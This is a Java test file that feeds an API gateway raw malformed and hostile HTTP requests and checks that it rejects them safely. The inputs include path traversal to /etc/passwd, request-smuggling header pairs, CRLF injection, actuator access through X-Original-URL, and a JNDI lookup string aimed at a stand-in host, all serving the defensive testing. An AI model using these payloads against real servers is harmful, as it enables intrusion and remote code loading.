package kepu.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.resilience4j.circuitbreaker.CircuitBreakerRegistry;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

/**
 * What somebody with a bare socket sends to find a hole: each is refused in the gateway's own words or served like any other
 * request, in one answer; nothing fails, nobody else notices, and no service gets what it should not.
 */
@ExtendWith(OutputCaptureExtension.class)
class OddRequestsTest {
    private static final String HOST = "Host: 127.0.0.1\r\n";
    private static final String CLOSE = "Connection: close\r\n";
    private static final String TEAMS = "/api/v1/volunteers/teams";
    private static final String BATCHES = "/api/v1/batches";

    private static RunningGateway gateway;
    private static String bearer;

    /**
     * A request and the statuses that are right for it, one for each answer.
     *
     * @param due an expression; no answer at all is the empty text
     */
    private record Odd(String what, String request, String due) {
        @Override
        public String toString() {
            return what;
        }
    }

    @BeforeAll
    static void start() {
        gateway = RunningGateway.withAllServices("--server.tomcat.connection-timeout=1s");
        bearer = "Authorization: " + gateway.issuer.bearer("p-1", "TOWNSHIP_CLERK@370102001") + "\r\n";
    }

    @AfterAll
    static void stop() {
        gateway.close();
    }

    @BeforeEach
    void everything_is_well() {
        gateway.services.values().forEach(StubService::reset);
    }

    static Stream<Odd> lines() {
        return Stream.of(
                line("a path in absolute form", "GET http://127.0.0.1" + TEAMS + " HTTP/1.1", "200"),
                line("another host in absolute form", "GET http://evil.example" + TEAMS + " HTTP/1.1", "400"),
                line("somebody's name in absolute form", "GET http://a:b@127.0.0.1" + TEAMS + " HTTP/1.1", "200|400"),
                line("another scheme", "GET file:///etc/passwd HTTP/1.1", "400|404"),
                line("no path, which is HTTP/0.9 too", "GET HTTP/1.1", "none: .*\"invalid-request\".*"),
                line("an asterisk", "GET * HTTP/1.1", "400|404"),
                line("options of everything", "OPTIONS * HTTP/1.1", "400|404|405"),
                line("an authority", "CONNECT 127.0.0.1:22 HTTP/1.1", "400|405"),
                line("a trace", "TRACE / HTTP/1.1", "405"),
                line("a method that nobody knows", "ABCDEFGH / HTTP/1.1", "405"),
                line("a very long method", "A".repeat(5000) + " / HTTP/1.1", "400|405"),
                line("the beginning of HTTP/2", "PRI * HTTP/2.0", "400"),
                line("HTTP/1.2", "GET /health HTTP/1.2", "400|200"),
                line("HTTP/0.9, whose answers have no head", "GET /health", "none: .*\"unknown-host\".*"),
                line("two blanks", "GET  /health  HTTP/1.1", "200|400"),
                line("tabs", "GET\t/health\tHTTP/1.1", "200|400"),
                line("a NUL in the path", "GET /health\u0000 HTTP/1.1", "400"),
                line("an encoded NUL", "GET " + TEAMS + "/%00 HTTP/1.1", "400|404"),
                line("an encoded line end", "GET " + TEAMS + "/%0d%0aX:%20y HTTP/1.1", "400|404|200"),
                line("double slash", "GET //api/v1/volunteers/teams HTTP/1.1", "400|404"),
                line("dot segment", "GET /api/v1/./volunteers/teams HTTP/1.1", "400|404"),
                line("dots above the root", "GET /../../etc/passwd HTTP/1.1", "400|404"),
                line("a parameter of a path", "GET /api;x=y/v1/volunteers/teams HTTP/1.1", "404"),
                line("a session in the path", "GET /login;jsessionid=1234 HTTP/1.1", "404"),
                line("backslashes", "GET \\api\\v1\\volunteers\\teams HTTP/1.1", "400|404"),
                line("overlong UTF-8", "GET /api/v1/volunteers/%c0%ae%c0%ae/x HTTP/1.1", "400|404"),
                line("broken UTF-8", "GET /api/v1/volunteers/%ff%fe HTTP/1.1", "400|404"),
                line("raw bytes", "GET /api/v1/volunteers/\u00e9\u00ff HTTP/1.1", "400|404"),
                line("a fragment", "GET /login#x HTTP/1.1", "400|404"),
                line("braces and pipes", "GET /api/v1/volunteers/{a}|b^c\"<> HTTP/1.1", "400|404"),
                line("64 KB", "GET /" + "a".repeat(64 * 1024) + " HTTP/1.1", "400|414|431"),
                line("10 KB of query", "GET " + TEAMS + "?" + "a=b&".repeat(2500) + " HTTP/1.1", "414"),
                line("a method in the query", "POST /nowhere?_method=DELETE HTTP/1.1", "404"),
                line("a query of question marks", "GET " + TEAMS + "???&&&===%3f HTTP/1.1", "200|400"),
                line("a template in the query", "GET " + TEAMS + "?a={x}&b=${y}&c=%24%7Bz%7D HTTP/1.1", "200|400"),
                line("a code of another alphabet", "GET /certificates?code=%E4%B8%AD%00 HTTP/1.1", "404"),
                line("a code that is none", "GET /certificates?code=%zz HTTP/1.1", "400|404"),
                line("a room that is none", "GET /consultations?room=../../x HTTP/1.1", "404"),
                line("a schema above", "GET /contracts/schemas/..%2f..%2fapplication.yml HTTP/1.1", "400|404"),
                line("a file above", "GET /docs/..%5c..%5cgateway.yml HTTP/1.1", "400|404"));
    }

    static Stream<Odd> headers() {
        return Stream.of(
                        "Header With Blank: x",
                        "NoColon",
                        ": empty name",
                        "X : blank before the colon",
                        "X: a\u0000b",
                        "X: a\u0001b",
                        "X: a\rb",
                        "X: a\r\n folded",
                        "X\u00e9: y",
                        "Host: 127.0.0.1",
                        "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nConnection: Upgrade, HTTP2-Settings",
                        "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13",
                        "Connection: Authorization, X-Forwarded-For, Kepu-Correlation-Id",
                        "Keep-Alive: timeout=99999999999",
                        "TE: trailers, deflate;q=0.5",
                        "Trailer: Authorization",
                        "Proxy-Authorization: Basic x",
                        "Max-Forwards: -1",
                        "Via: 1.1 " + "x, 1.1 ".repeat(500) + "y",
                        "Cookie: " + "a=b; ".repeat(300) + "c=d",
                        "Cookie: " + "a".repeat(9000) + "=b",
                        "Cookie: kepu-signin=\u0001\u00ff; $Path=/; =; ;;",
                        "Cookie: JSESSIONID=1; JSESSIONID=2; kepu-signin=%00",
                        "Cookie: a=b\r\n".repeat(50) + "Cookie: c=d",
                        "Accept: " + "text/plain, ".repeat(80) + "*/*",
                        "Accept: " + "a/b;q=0.".repeat(1000),
                        "Accept: */*;q=0",
                        "Accept: text/html;q=NaN",
                        "Accept: application/json;charset=\u00ff",
                        "Accept-Encoding: " + "gzip, ".repeat(2000),
                        "Accept-Encoding: gzip" + " ".repeat(9000) + ";q=0x",
                        "Accept-Language: " + "a-".repeat(3000),
                        "Accept-Language: zh-CN;q=0.0000000000000000000000001",
                        "Accept-Language: en-US-x-" + "abcdefgh-".repeat(80) + "z",
                        "Accept-Language: en;q=1e999",
                        "Authorization: Bearer " + "a".repeat(9000),
                        "Authorization: Bearer a.b.c",
                        "Authorization: Bearer ..",
                        "Authorization: \u4e2d",
                        "Authorization: DPoP x",
                        "Origin: http://[::1",
                        "Origin: http://a:b:c",
                        "Origin: null",
                        "Origin: http://127.0.0.1:99999999",
                        "Origin: file:///etc/passwd",
                        "Origin: x\r\nAccess-Control-Request-Method: \u00ff",
                        "Origin: http://evil.example\r\nAccess-Control-Request-Method: DELETE\r\nAccess-Control-Request-Headers: "
                                + "a,".repeat(2000),
                        "Forwarded: for=\"[::1]\";host=evil.example;proto=https",
                        "Forwarded: " + "for=1.2.3.4, ".repeat(500),
                        "X-Forwarded-For: " + "1.2.3.4, ".repeat(500),
                        "X-Forwarded-Host: evil.example",
                        "X-Forwarded-Prefix: /evil\r\nX-Forwarded-Port: abc\r\nX-Forwarded-Proto: javascript",
                        "X-Original-URL: /actuator/env\r\nX-Rewrite-URL: /actuator/env",
                        "X-HTTP-Method-Override: DELETE\r\nX-HTTP-Method: DELETE\r\nX-Method-Override: DELETE",
                        "If-None-Match: " + "\"a\",".repeat(2000) + "\"b\"",
                        "If-None-Match: " + "W/".repeat(4000),
                        "If-None-Match: *",
                        "If-Match: " + "\"".repeat(5000),
                        "If-Modified-Since: Thu, 99 Foo 99999 99:99:99 GMT",
                        "If-Unmodified-Since: -1",
                        "If-Range: \"7\"",
                        "Range: bytes=0-1",
                        "Range: bytes=" + "0-,".repeat(2000) + "0-",
                        "Range: bytes=-99999999999999999999",
                        "Content-Type: multipart/form-data",
                        "Content-Type: multipart/form-data; boundary=" + "x".repeat(5000),
                        "Content-Type: application/json;charset=utf-7",
                        "Content-Type: text/html;charset=",
                        "Content-Type: */*",
                        "Content-Type: a/b/c",
                        "Content-Encoding: gzip, br, deflate",
                        "Content-Length: 0\r\nContent-Length: 0",
                        "Content-Length: +0",
                        "Content-Length: 0,0",
                        "Content-Length: 0x0",
                        "Content-Length: ",
                        "Content-Length: 9223372036854775807",
                        "Content-Length: 5",
                        "Transfer-Encoding: chunked\r\nContent-Length: 5",
                        "Transfer-Encoding:\tchunked",
                        "Transfer-Encoding: \u000bchunked",
                        "Transfer-Encoding: chunked;q=1",
                        "Transfer-Encoding: identity",
                        "Expect: 100-continue",
                        "Expect: 100-continue\r\nContent-Length: 400000",
                        "Expect: 200-ok",
                        "Prefer: " + "return=minimal, ".repeat(500),
                        "Idempotency-Key: " + "k".repeat(5000),
                        "Idempotency-Key: \u00ff\u00fe",
                        "Kepu-Correlation-Id: ${jndi:ldap://evil.example/x}",
                        "traceparent: 00-" + "f".repeat(5000),
                        "tracestate: " + "a=b,".repeat(2000),
                        "baggage: " + "a=b,".repeat(2000),
                        "baggage: a=%zz;;;=,",
                        "User-Agent: ",
                        "Referer: javascript:alert(1)",
                        "Date: x")
                .map(header -> new Odd(
                        header.length() > 60 ? header.substring(0, 60) + "…" : header, header + "\r\n", "[234].."));
    }

    static Stream<Odd> bodies() {
        var chunked = "Transfer-Encoding: chunked\r\n\r\n";
        return Stream.of(
                post("a chunk with an extension", TEAMS, chunked + "5;a=b\r\nhello\r\n0\r\n\r\n", "200"),
                post(
                        "a chunk with a large extension",
                        TEAMS,
                        chunked + "5;" + "a".repeat(20_000) + "\r\nhello\r\n0\r\n\r\n",
                        "4.."),
                post("a chunk of a huge size", TEAMS, chunked + "ffffffffffffffff\r\nhello", "4.."),
                post("a chunk of a negative size", TEAMS, chunked + "-1\r\nhello\r\n0\r\n\r\n", "4.."),
                post("a chunk with a sign", TEAMS, chunked + "+5\r\nhello\r\n0\r\n\r\n", "4.."),
                post("a chunk with 0x", TEAMS, chunked + "0x5\r\nhello\r\n0\r\n\r\n", "4.."),
                post("a chunk that is longer than it says", TEAMS, chunked + "3\r\nhello\r\n0\r\n\r\n", "4.."),
                post("a chunk whose line ends with LF", TEAMS, chunked + "5\nhello\n0\n\n", "200|4.."),
                post("a body that breaks off", TEAMS, chunked + "5\r\nhe", "4.."),
                post(
                        "a forbidden trailer",
                        TEAMS,
                        chunked + "5\r\nhello\r\n0\r\nAuthorization: x\r\nContent-Length: 9\r\nHost: evil\r\n\r\n",
                        "200|4.."),
                post("a garbled trailer", TEAMS, chunked + "5\r\nhello\r\n0\r\nNo Colon\r\n\r\n", "200|4.."),
                post(
                        "a large trailer",
                        TEAMS,
                        chunked + "5\r\nhello\r\n0\r\nX: " + "x".repeat(20_000) + "\r\n\r\n",
                        "4.."),
                post(
                        "many trailers",
                        TEAMS,
                        chunked + "5\r\nhello\r\n0\r\n" + "X: y\r\n".repeat(1000) + "\r\n",
                        "200|4.."),
                post(
                        "a body in gzip",
                        TEAMS,
                        "Content-Encoding: gzip\r\nContent-Length: 3\r\n\r\n\u001f\u008b\u0008",
                        "200"),
                post(
                        "a batch in gzip",
                        BATCHES,
                        "Content-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: 3\r\n\r\n\u001f\u008b\u0008",
                        "4.."),
                json("a batch without end", "{\"commands\":[", "400"),
                json("a batch of brackets", "[".repeat(100_000), "400"),
                json("a batch of braces", "{\"commands\":".repeat(20_000), "400"),
                json("a batch of nested bodies", command("\"body\":" + "[".repeat(5000) + "]".repeat(5000)), "[24].."),
                json("a batch of long numbers", command("\"ifMatch\":" + "9".repeat(5000)), "4..|200"),
                json("a batch of large exponents", command("\"ifMatch\":1e999999999"), "4..|200"),
                json("a batch with a long name", command("\"" + "a".repeat(60_000) + "\":1"), "4.."),
                json("a batch of nulls", "{\"commands\":[null,null]}", "4.."),
                json("a batch that is a text", "\"commands\"", "4.."),
                json("a batch of half a surrogate", command("\"unitId\":\"\\ud800\""), "4..|200"),
                json("a batch with a NUL", command("\"unitId\":\"\\u0000\""), "4..|200"),
                json("a batch in UTF-16", "\u00fe\u00ff\u0000{", "4.."),
                json("a batch with broken UTF-8", command("\"unitId\":\"\u00ff\u00fe\""), "4.."),
                json("a batch in a batch", row("POST", BATCHES, "k"), "200"),
                json("a row to a page without a token", row("POST", "/api/v1/volunteers/public/x", "k"), "200"),
                json("a row above", row("POST", "/api/v1/volunteers/../identity/accounts", "k"), "200"),
                json("a row to another host", row("POST", "//evil.example/api/v1/volunteers/x", "k"), "200"),
                json("a row at another host", row("POST", "@evil.example/api/v1/volunteers/x", "k"), "200"),
                json("a row with a line end", row("POST", "/api/v1/volunteers/x HTTP/1.1\\r\\nX: y", "k"), "400"),
                json("a row with an encoded line end", row("POST", "/api/v1/volunteers/x%0d%0aX:y", "k"), "200"),
                json("a row with overlong UTF-8", row("POST", "/api/v1/volunteers/%c0%ae%c0%ae", "k"), "200"),
                json("a key with a line end", row("POST", "/api/v1/volunteers/x", "k\\r\\nX: y"), "400"),
                json("a method with a line end", row("POST\\r\\nX: y", "/api/v1/volunteers/x", "k"), "400"),
                form("a form of nothing but signs", "&&&===&&&%%%&=", "400"),
                form("a form of countless fields", "a=b&".repeat(20_000), "400"),
                form("a form in broken bytes", "room=\u00ff\u00fe&key=%zz&question=%ff", "400"),
                form("a question for another room", "room=..%2f..%2fx&key=k&question=q", "400"),
                form("a code that leads elsewhere", "code=..%2f..%2fx&rating=1", "400"));
    }

    @ParameterizedTest
    @MethodSource
    void lines(Odd odd, CapturedOutput log) throws Exception {
        check(odd, gateway.raw(odd.request()), log);
    }

    @ParameterizedTest
    @MethodSource
    void bodies(Odd odd, CapturedOutput log) throws Exception {
        check(odd, gateway.raw(odd.request()), log);
    }

    @ParameterizedTest
    @MethodSource
    void headers(Odd odd, CapturedOutput log) throws Exception {
        for (var line : List.of(
                "GET " + TEAMS,
                "POST " + TEAMS,
                "OPTIONS " + TEAMS,
                "POST " + BATCHES,
                "GET /api/v1/villages/370102001001/2026",
                "GET /login",
                "GET /docs",
                "GET /certificates?code=ABCDEFGHJKMN",
                "POST /consultations",
                "GET /nowhere")) {
            var request = line + " HTTP/1.1\r\n" + HOST + CLOSE
                    + (odd.request().startsWith("Authorization") ? "" : bearer) + odd.request() + "\r\n";
            check(new Odd(line + " " + odd.what(), request, odd.due()), gateway.raw(request), log);
        }
    }

    private static Odd line(String what, String line, String due) {
        return new Odd(what, line + "\r\n" + HOST + CLOSE + bearer + "\r\n", due);
    }

    private static Odd post(String what, String path, String rest, String due) {
        return new Odd(what, "POST " + path + " HTTP/1.1\r\n" + HOST + CLOSE + bearer + rest, due);
    }

    private static Odd json(String what, String body, String due) {
        return post(
                what,
                BATCHES,
                "Content-Type: application/json\r\nContent-Length: " + body.length() + "\r\n\r\n" + body,
                due);
    }

    private static Odd form(String what, String body, String due) {
        return post(
                what,
                "/consultations",
                "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: " + body.length() + "\r\n\r\n"
                        + body,
                due);
    }

    private static String command(String field) {
        return "{\"commands\":[{\"method\":\"POST\",\"path\":\"/api/v1/volunteers/teams\",\"idempotencyKey\":\"k\","
                + field + "}]}";
    }

    private static String row(String method, String path, String key) {
        return "{\"commands\":[{\"method\":\"" + method + "\",\"path\":\"" + path + "\",\"idempotencyKey\":\"" + key
                + "\"}]}";
    }

    private static void check(Odd odd, String answer, CapturedOutput log) {
        var answers = answer.isEmpty() ? new String[0] : answer.split("(?=HTTP/1\\.1 \\d{3})");
        var statuses = Stream.of(answers)
                .map(one -> one.startsWith("HTTP/1.1 ") ? one.substring(9, 12) : "none: " + one)
                .filter(status -> !status.equals("100"))
                .collect(Collectors.joining(","));
        assertThat(statuses).as("%s", odd).matches(odd.due());
        if (statuses.startsWith("4") && !answer.contains("Content-Length: 0\r\n") && !answer.contains("<h1>")) {
            assertThat(answer).as("%s", odd).contains("application/problem+json", "\"code\":", "nosniff");
        }
        assertThat(answer.length() > 20_000 ? "" : answer)
                .as("%s", odd)
                .doesNotContain("Exception", "Tomcat", "internal-error");
        assertThat(log.getAll()).as("%s", odd).doesNotContain(" ERROR ", "\tat ");
        assertThat(gateway.context.getBean(CircuitBreakerRegistry.class).getAllCircuitBreakers())
                .as("%s", odd)
                .allMatch(breaker -> breaker.getMetrics().getNumberOfFailedCalls() == 0);
        assertThat(gateway.services.values())
                .as("%s", odd)
                .flatExtracting(StubService::asked)
                .allSatisfy(OddRequestsTest::checkAsked);
    }

    private static void checkAsked(StubService.Asked asked) {
        assertThat(asked.method()).isIn("GET", "POST", "OPTIONS");
        assertThat(asked.uri().toString()).startsWith("/").doesNotContain("evil", "actuator", "..", "//");
        assertThat(asked.headers())
                .doesNotContainKeys("Upgrade", "Forwarded", "X-original-url", "X-rewrite-url", "X-http-method-override")
                .containsEntry("X-forwarded-for", List.of("127.0.0.1"))
                .containsEntry("X-forwarded-host", List.of("127.0.0.1"))
                .containsEntry("X-forwarded-proto", List.of("http"));
    }
}
